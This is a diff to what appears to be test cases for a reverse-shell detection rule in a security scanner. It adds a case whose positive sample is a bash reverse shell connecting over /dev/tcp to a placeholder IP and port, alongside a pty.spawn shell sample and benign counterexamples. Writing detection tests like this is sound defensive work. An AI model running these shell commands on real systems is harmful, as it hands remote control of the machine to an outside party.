@@ -12,6 +12,11 @@ describeRuleCases('reverse-shell', [
     negative: sh('nc -zv db.example.net 5432'),
   },
   {
+    id: 'SG-RSHELL-001',
+    positive: sh('exec 3<>/dev/tcp/198.51.100.7/4444; sh <&3 >&3 2>&3'),
+    negative: sh('if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then echo "nothing on $port"; fi'),
+  },
+  {
     id: 'SG-RSHELL-003',
     positive: py('import pty\npty.spawn("/bin/sh")'),
     negative: py('import subprocess\nsubprocess.run(["ls"])'),
